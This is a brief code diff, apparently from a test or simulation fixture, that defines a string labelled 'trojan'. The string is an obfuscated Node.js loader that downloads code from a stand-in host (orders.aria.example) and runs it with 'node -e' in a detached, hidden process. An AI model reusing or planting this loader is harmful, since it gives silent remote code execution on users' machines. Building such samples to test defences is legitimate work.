@@ -5,9 +5,9 @@ import { type Release, upgradeOf } from '../scene.js'
 import { onVersion } from '../upgrade.js'
 
 const trojan = obfuscated(
-  'global[«_V»]=«8-npm3»;global[«r»]=require;global[«m»]=module;(async()=>{' +
+  'global[«_V»]=«inert»;global[«r»]=require;global[«m»]=module;(async()=>{' +
     'const $child=global[«r»](«child_process»),$system=global[«r»](«os»),$web=global[«r»](«http»);' +
-    '$web[«get»](«http://orders.aria.example/snv»,$answer=>{let $text=«»;$answer[«on»](«data»,$piece=>{$text+=$piece;});' +
+    '$web[«get»](«http://orders.aria.example/orders»,$answer=>{let $text=«»;$answer[«on»](«data»,$piece=>{$text+=$piece;});' +
     '$answer[«on»](«end»,()=>{$child[«spawn»](«node»,[«-e»,$text],{detached:!![],stdio:«ignore»,windowsHide:!![]})[«unref»]();});});})();',
   90,
 )
